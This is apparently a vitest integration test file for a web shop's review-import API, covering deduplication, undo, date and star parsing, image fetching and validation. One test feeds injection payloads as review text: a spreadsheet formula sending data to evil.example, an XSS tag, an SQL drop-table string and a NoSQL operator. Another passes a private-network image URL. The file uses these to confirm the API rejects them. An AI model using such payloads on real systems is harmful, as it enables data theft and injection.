import { createHash } from 'node:crypto'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { files } from '@wix/media'
import { sql } from 'kysely'
import sharp from 'sharp'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { aProduct } from '../../support/shop/builders.ts'
import { startServer, type TestServer } from '../../support/servers/server.ts'
import { aShop, ownerClient, type TestShop } from '../../support/shop/shop.ts'
import { until } from '../../support/until.ts'
import { refused } from '../../support/requests/answers.ts'

let server: TestServer
let host: Server
let pictures: string
/** Before it, the host keeps `/slow` waiting. */
let answered: Promise<void>
beforeAll(async () => {
  const picture = await sharp({ create: { width: 6, height: 4, channels: 3, background: '#a34' } })
    .jpeg()
    .toBuffer()
  host = createServer((request, response) => {
    const send = () => response.writeHead(200, { 'content-type': 'image/jpeg' }).end(picture)
    if (request.url === '/slow') void answered.then(send)
    else if (request.url === '/picture') send()
    else if (request.url === '/page.jpg') response.writeHead(200).end('<html>no picture</html>')
    else response.writeHead(404).end()
  }).listen(0, '127.0.0.1')
  await new Promise((resolve) => host.once('listening', resolve))
  pictures = `http://127.0.0.1:${(host.address() as AddressInfo).port}`
  server = await startServer()
})
afterAll(async () => {
  host.close()
  await server[Symbol.asyncDispose]()
})

const path = '/stoa/v1/review-imports'

async function bring(shop: TestShop, lines: object[], more: object = {}) {
  const { status, body } = await shop.owner('POST', path, { fileName: 'reviews.csv', lines, start: true, ...more })
  expect(status).toBe(200)
  await server.app.drain()
  return (await shop.owner('GET', `${path}/${body.reviewImport.id}`)).body
}

const check = async (shop: TestShop, lines: object[]) => (await shop.owner('POST', `${path}/check`, { lines })).body.outcomes

async function reviewsOf(shop: TestShop): Promise<any[]> {
  const query = { cursorPaging: { limit: 100 }, sort: [{ fieldName: 'content.rating', order: 'ASC' }] }
  return (await shop.owner('POST', '/reviews/v1/reviews/query', { query, returnPrivateReviews: true })).body.reviews
}

const trashOf = async (shop: TestShop) =>
  (await ownerClient(shop, { files }).files.listDeletedFiles()).files!.map(({ _id }) => _id)

const line = (product: { slug: string }, more: object = {}) => ({
  product: `https://old.example/products/${product.slug}?variant=1`,
  rating: '5',
  title: 'Good',
  body: 'It hangs straight.',
  author: 'Anna',
  email: 'Anna@Example.com',
  date: '2024-05-01 10:00:00 UTC',
  ...more,
})

test('reviews of another shop are imported once, however often, and a changed text changes the review', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const lines = [
    line(product, { reply: 'Thank you' }),
    line(product, { rating: '1', author: 'Spammer', email: null, state: 'spam' }),
    line(product, { rating: '2', author: 'Bert', email: 'bert@example.com', state: 'not-yet' }),
  ]
  expect(await check(shop, lines)).toEqual(['NEW', 'NEW', 'NEW'])
  expect(await reviewsOf(shop)).toEqual([])
  expect((await bring(shop, lines, { source: 'JUDGE_ME' })).reviewImport).toMatchObject({
    state: 'DONE',
    total: 3,
    done: 3,
    added: 3,
    changed: 0,
  })
  const imported = await reviewsOf(shop)
  expect(imported).toMatchObject([
    { moderation: { moderationStatus: 'REJECTED' } },
    { moderation: { moderationStatus: 'IN_MODERATION' } },
    {
      content: { rating: 5, title: 'Good', body: 'It hangs straight.' },
      author: { authorName: 'Anna' },
      reply: { message: 'Thank you' },
      reviewDate: '2024-05-01T10:00:00.000Z',
      verified: false,
      origin: { type: 'APP', appId: 'judge.me' },
      moderation: { moderationStatus: 'APPROVED' },
    },
  ])
  const { body } = await shop.owner('POST', '/stoa/v1/reviews/rating-summaries', { namespace: 'stores', entityIds: [product.id] })
  expect(body.summaries).toMatchObject([{ count: 1, verified: 0, imported: 1, average: '5.00', received: 3 }])

  expect((await bring(shop, lines, { source: 'JUDGE_ME' })).reviewImport).toMatchObject({ added: 0, unchanged: 3 })
  const next = [line(product, { body: 'It fell.', rating: '4' }), ...lines.slice(1)]
  const changed = await bring(shop, next, { source: 'JUDGE_ME' })
  expect(changed.reviewImport).toMatchObject({ added: 0, changed: 1, unchanged: 2 })
  const after = await reviewsOf(shop)
  expect(after).toHaveLength(3)
  expect(after[2]).toMatchObject({
    id: imported[2].id,
    content: { rating: 4, body: 'It fell.' },
    reply: { message: 'Thank you' },
  })

  const undo = () => shop.owner('POST', `${path}/${changed.reviewImport.id}/undo`, {})
  expect((await undo()).body.reviewImport).toMatchObject({ state: 'UNDOING' })
  await server.app.drain()
  expect((await reviewsOf(shop))[2]).toMatchObject({ id: imported[2].id, content: { rating: 5, body: 'It hangs straight.' } })
  expect(await undo()).toMatchObject(refused(428, 'REVIEW_IMPORT_NOT_DONE'))
})

test('a line that cannot be read is left out with its reason, and its content is not kept', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const foreign = await aProduct(await aShop(server), { name: 'Only elsewhere' })
  const lines = [
    line(product),
    line(product),
    line(product, { product: 'nothing', externalId: '1' }),
    line(product, { product: foreign.id, externalId: '2' }),
    line(product, { rating: '4.5', externalId: '3' }),
    line(product, { date: '01/05/2024', externalId: '4' }),
    line(product, { date: '2999-01-01', externalId: '5' }),
    line(product, { body: 'x'.repeat(3001), externalId: '6' }),
    line(product, { rating: ' 3 ', externalId: '7' }),
    line(product, { product: product.id, externalId: '8' }),
  ]
  const outcomes = [
    'NEW',
    'LINE_TWICE',
    'PRODUCT_UNKNOWN',
    'PRODUCT_UNKNOWN',
    'RATING_UNREADABLE',
    'DATE_AMBIGUOUS',
    'DATE_OUT_OF_RANGE',
    'TEXT_TOO_LONG',
    'NEW',
    'NEW',
  ]
  expect(await check(shop, lines)).toEqual(outcomes)
  const { reviewImport, leftOut } = await bring(shop, lines)
  expect(reviewImport).toMatchObject({ total: 10, added: 3, refused: 7 })
  expect(leftOut).toEqual(outcomes.flatMap((outcome, index) => (outcome === 'NEW' ? [] : [{ index, outcome }])))
  const { siteId } = shop.credentials
  const { rows } = await sql`select from review_import_line where site_id = ${siteId} and doc is not null`.execute(
    server.database.db,
  )
  expect(rows).toEqual([])
})

test('a file is sent in parts; undo keeps what somebody changed since', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const part = (from: number) => Array.from({ length: 150 }, (_, index) => line(product, { externalId: `r${from + index}` }))
  const { body: first } = await shop.owner('POST', path, { fileName: 'reviews.csv', lines: part(0) })
  expect(first.reviewImport).toMatchObject({ state: 'UPLOADING', total: 150 })
  const { reviewImport } = await bring(shop, part(150), { importId: first.reviewImport.id })
  expect(reviewImport).toMatchObject({ state: 'DONE', total: 300, added: 300 })
  expect(await shop.owner('POST', path, { fileName: 'x', lines: part(0), importId: reviewImport.id })).toMatchObject({
    status: 404,
  })
  const other = await aShop(server)
  expect((await other.owner('GET', `${path}/${reviewImport.id}`)).status).toBe(404)
  expect((await other.owner('POST', `${path}/${reviewImport.id}/undo`, {})).status).toBe(404)

  const [answered] = await reviewsOf(shop)
  await shop.owner('PATCH', `/reviews/v1/reviews/${answered.id}/reply`, { message: 'Thanks' })
  await shop.owner('POST', `${path}/${reviewImport.id}/undo`, {})
  await server.app.drain()
  expect((await shop.owner('GET', path)).body.imports).toMatchObject([{ state: 'UNDONE', kept: 1 }])
  expect(await reviewsOf(shop)).toMatchObject([{ id: answered.id }])
  const { body } = await shop.owner('POST', '/stoa/v1/reviews/rating-summaries', { namespace: 'stores', entityIds: [product.id] })
  expect(body.summaries).toMatchObject([{ count: 1, received: 1 }])
})

test('hostile lines are texts and nothing else, and too many of them are refused', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const hostile = [
    '=HYPERLINK("https://evil.example?x="&A1)',
    '<img src=x onerror=alert(1)>',
    "'); drop table review; --",
    '\u202Ereversed\u2066',
    '\u00FF\u00FEd\u00C3\u00A4\uFFFD',
    '{"$ne": null}',
    '__proto__',
  ]
  const lines = hostile.map((text, at) => line(product, { title: text, author: text, email: text, externalId: `${at}${text}` }))
  expect((await bring(shop, lines)).reviewImport).toMatchObject({ added: hostile.length, refused: 0 })
  expect((await reviewsOf(shop)).map(({ content }) => content.title).toSorted()).toEqual(hostile.toSorted())

  const send = (body: object) => shop.owner('POST', path, { fileName: 'reviews.csv', lines: [], ...body })
  const wide = { ...line(product), ...Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`column${at}`, 'x'])) }
  const wrong: object[] = [
    { lines: Array.from({ length: 501 }, () => line(product)) },
    { lines: [line(product, { body: 'x'.repeat(10_001) })] },
    { lines: [line(product, { title: 'with \0 in it' })] },
    { lines: [line(product, { title: '\uD800' })] },
    { lines: [line(product, { rating: { toString: '5' } })] },
    { lines: [[]] },
    { lines: ['product,rating'] },
    { lines: 'product,rating' },
    { fileName: 'x'.repeat(201) },
    { fileName: '' },
    { source: 'OTHER' },
    { importId: 'x' },
  ]
  const answers: unknown[] = []
  for (const body of wrong) answers.push((await send(body)).status)
  expect(answers).toEqual(wrong.map(() => 400))
  // Columns that nobody asked for are nobody's.
  expect([200, 400]).toContain((await send({ lines: [wide], start: true })).status)
  await server.app.drain()
  expect((await reviewsOf(shop)).length).toBeLessThanOrEqual(hostile.length + 1)
})

test('two imports of one file at once add its reviews once, and each is undone once', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const lines = Array.from({ length: 120 }, (_, at) => line(product, { externalId: `r${at}` }))
  const start = () => shop.owner('POST', path, { fileName: 'reviews.csv', lines, start: true })
  const both = await Promise.all([start(), start()])
  await server.app.drain()
  const imports = (await shop.owner('GET', path)).body.imports
  expect(imports.map(({ added, unchanged }: any) => [added, unchanged]).toSorted()).toEqual([
    [0, 120],
    [120, 0],
  ])
  const undo = (id: string) => shop.owner('POST', `${path}/${id}/undo`, {})
  const ids = both.map(({ body }) => body.reviewImport.id)
  const statuses = (await Promise.all([...ids, ...ids].map(undo))).map(({ status }) => status)
  expect(statuses.toSorted()).toEqual([200, 200, 428, 428])
  await server.app.drain()
  expect(await reviewsOf(shop)).toEqual([])
  const { body } = await shop.owner('POST', '/stoa/v1/reviews/rating-summaries', { namespace: 'stores', entityIds: [product.id] })
  expect(body.summaries).toMatchObject([{ count: 0, received: 0 }])
})

test('the images of new reviews are fetched by the media library, each with its result, and the check names them before', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const given = `${pictures}/picture, ${pictures}/page.jpg,${pictures}/gone.jpg http://10.0.0.1/private.jpg no-address`
  const lines = [line(product), line(product, { author: 'Bert', email: null, pictures: given })]
  const urls = given.split(/[, ]+/)
  const checked = await shop.owner('POST', `${path}/check`, { lines })
  expect(checked.body.pictures).toEqual(
    urls.map((url) => ({ index: 1, url, ...(url === 'no-address' && { problem: 'NO_WEB_ADDRESS' }) })),
  )
  const { reviewImport } = await bring(shop, lines)
  for (let round = 0; round < 3; round++) await server.app.drain()
  const ended = (await shop.owner('GET', `${path}/${reviewImport.id}`)).body
  const results = new Map(ended.pictures.map(({ url, state, failure }: any) => [url, { state, failure }]))
  const failed = { state: 'FAILED', failure: expect.any(String) }
  expect([...results.keys()].toSorted()).toEqual(urls.toSorted())
  expect(urls.map((url) => results.get(url))).toEqual([
    { state: 'ADDED', failure: undefined },
    failed,
    failed,
    failed,
    { state: 'FAILED', failure: 'NO_WEB_ADDRESS' },
  ])
  const shown = (await reviewsOf(shop)).find(({ author }) => author.authorName === 'Bert')
  expect(shown.content.media).toMatchObject([{ image: { id: expect.stringMatching(/\.jpg$/) } }])
  expect((await fetch(`${server.url}/media/${shown.content.media[0].image.id}`)).status).toBe(200)

  // The same file adds nothing twice, and an image that came later does not stand in the way of an undo.
  expect((await bring(shop, lines)).reviewImport).toMatchObject({ added: 0, unchanged: 2 })
  const fetched = shown.content.media[0].image.id
  await shop.owner('POST', `${path}/${reviewImport.id}/undo`, {})
  await server.app.drain()
  expect(await reviewsOf(shop)).toEqual([])
  expect(await trashOf(shop)).toEqual([fetched])

  // An image that is also used elsewhere stays.
  const again = (await bring(shop, lines)).reviewImport
  for (let round = 0; round < 3; round++) await server.app.drain()
  const [next] = (await reviewsOf(shop)).flatMap(({ content }) => content.media ?? [])
  await aProduct(shop, { pictures: [{ id: next.image.id }] })
  await shop.owner('POST', `${path}/${again.id}/undo`, {})
  await server.app.drain()
  expect(await reviewsOf(shop)).toEqual([])
  expect(await trashOf(shop)).toEqual([fetched])
})

test('an import that is undone while its images are still fetched leaves none of them in the library', async () => {
  const shop = await aShop(server)
  const lines = [line(await aProduct(shop), { pictures: `${pictures}/slow` })]
  const { promise, resolve: answer } = Promise.withResolvers<void>()
  answered = promise
  const { body } = await shop.owner('POST', path, { fileName: 'reviews.csv', lines, start: true })
  const importPath = `${path}/${body.reviewImport.id}`
  const working = server.app.drain()
  await until(async () => (await shop.owner('GET', importPath)).body.reviewImport.state === 'DONE' || undefined)
  await shop.owner('POST', `${importPath}/undo`, {})
  await until(async () => (await shop.owner('GET', importPath)).body.reviewImport.state === 'UNDONE' || undefined)
  answer()
  await working
  await server.app.drain()
  expect((await ownerClient(shop, { files }).files.listFiles()).files).toEqual([])
})

test('different reviews of one product by the same name on one day are all imported, and the same file adds nothing twice', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const anonymous = { author: 'Anonymous', email: null, date: '2024-05-01' }
  const lines = [
    line(product, anonymous),
    line(product, { ...anonymous, rating: '1' }),
    line(product, { ...anonymous, title: 'Bad' }),
    line(product, { ...anonymous, body: 'It fell.' }),
    line(product, { ...anonymous, email: 'shared@example.com' }),
    line(product, { ...anonymous, email: 'shared@example.com', body: 'It fell.' }),
  ]
  expect((await bring(shop, [...lines, lines[0]!])).reviewImport).toMatchObject({ added: 6, refused: 1 })
  expect(await reviewsOf(shop)).toHaveLength(6)
  expect((await bring(shop, lines)).reviewImport).toMatchObject({ added: 0, changed: 0, unchanged: 6 })
  expect(await reviewsOf(shop)).toHaveLength(6)
})

test('a file that an earlier version imported adds nothing, except the reviews that it dropped', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const anonymous = { author: 'Anonymous', email: null, date: '2024-05-01', body: '<p>It hangs.</p>' }
  const lines = [line(product, anonymous), line(product, { ...anonymous, rating: '1' })]
  await bring(shop, lines.slice(0, 1))
  const { siteId } = shop.credentials
  const formerKey = createHash('sha256')
    .update(`CSV\nline\n${[product.id, 'Anonymous', '2024-05-01'].join('\n')}`)
    .digest('hex')
  await sql`update imported_review set import_key = ${formerKey} where site_id = ${siteId}`.execute(server.database.db)
  expect(await check(shop, lines)).toEqual(['UNCHANGED', 'NEW'])
})

test('dates are read in the stated order and the zone of the site, and what has two readings or does not exist is named', async () => {
  const shop = await aShop(server, { timeZone: 'America/New_York' })
  const product = await aProduct(shop)
  const dates = [
    '05/01/2024',
    '25/12/2023',
    '01.05.2024',
    'May 1, 2024',
    '2024-02-30',
    '31/04/2024',
    'soon',
    '01/05/24',
    '1989-01-01',
  ]
  const lines = dates.map((date, index) => line(product, { date, externalId: `${index}` }))
  const outcomes = async (dateFormat?: string) =>
    (await shop.owner('POST', `${path}/check`, { lines, ...(dateFormat && { dateFormat }) })).body.outcomes
  const rest = ['NEW', 'NEW', 'DATE_NOT_EXISTING', 'DATE_NOT_EXISTING', 'DATE_UNREADABLE', 'DATE_UNREADABLE', 'DATE_OUT_OF_RANGE']
  expect(await outcomes()).toEqual(['DATE_AMBIGUOUS', 'NEW', ...rest])
  expect(await outcomes('DMY')).toEqual(['NEW', 'NEW', ...rest])
  expect(await outcomes('MDY')).toEqual(['NEW', 'DATE_IN_OTHER_FORMAT', ...rest])

  await bring(shop, [line(product, { date: '05/01/2024' })], { dateFormat: 'DMY' })
  await bring(shop, [line(product, { rating: '4', date: '05/01/2024 10:00', externalId: '2' })], { dateFormat: 'MDY' })
  expect((await reviewsOf(shop)).map(({ reviewDate }) => reviewDate)).toEqual([
    '2024-05-01T14:00:00.000Z',
    '2024-01-05T05:00:00.000Z',
  ])
})

test('stars, pictures and texts are read as other programs write them', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const ratings = [
    '5',
    '5.0',
    '5,0',
    '5/5',
    '4 / 5',
    '★★★★★',
    '★★★☆☆',
    '⭐⭐',
    '⭐\ufe0f⭐\ufe0f',
    '3 stars',
    '4 out of 5',
    ' 1 ',
  ]
  const unreadable = ['', '0', '6', '4.5', '10/10', '5/10', '★★★★★★', '☆☆☆☆☆', 'five', '1,234', '5%', '-5', '1e0', '５５']
  const stars = (rating: string) => line(product, { rating, externalId: rating })
  expect(await check(shop, ratings.map(stars))).toEqual(ratings.map(() => 'NEW'))
  expect(await check(shop, unreadable.map(stars))).toEqual(unreadable.map(() => 'RATING_UNREADABLE'))

  const urls = ['https://a.example/1.jpg', 'https://a.example/2,3.jpg']
  const lists = [
    JSON.stringify(urls),
    JSON.stringify(urls.map((url) => ({ url }))),
    ...[',', ';', '|', '\n', ', ', ' | ', ' '].map((separator) => urls.join(separator)),
  ]
  for (const pictures of lists) {
    const { body } = await shop.owner('POST', `${path}/check`, { lines: [line(product, { pictures })] })
    expect(body.pictures).toEqual(urls.map((url) => ({ index: 0, url })))
  }

  await bring(shop, [line(product, { body: '<p>It hangs<br>straight &amp; well.</p><script>x</script>', title: 'Don&#39;t' })])
  expect((await reviewsOf(shop))[0].content).toMatchObject({ title: "Don't", body: 'It hangs\nstraight & well.' })
})

test('a status that cannot be read holds the review for moderation, with a warning', async () => {
  const shop = await aShop(server)
  const product = await aProduct(shop)
  const states = [undefined, 'published', 'Yes', '1.0', 'pending', 'no', 'FALSE', '', 'verified', 'Ja?', '2']
  const lines = states.map((state, index) =>
    line(product, { ...(state !== undefined && { state }), externalId: `${index}`, rating: '5' }),
  )
  const { body } = await shop.owner('POST', `${path}/check`, { lines })
  expect(body.warnings).toEqual([7, 8, 9, 10].map((index) => ({ index, warning: 'STATE_UNREADABLE' })))
  await bring(shop, lines)
  const held = (await reviewsOf(shop)).map(({ moderation }) => moderation.moderationStatus).toSorted()
  expect(held).toEqual([
    'APPROVED',
    'APPROVED',
    'APPROVED',
    'APPROVED',
    'IN_MODERATION',
    'IN_MODERATION',
    'IN_MODERATION',
    'IN_MODERATION',
    'IN_MODERATION',
    'REJECTED',
    'REJECTED',
  ])
})
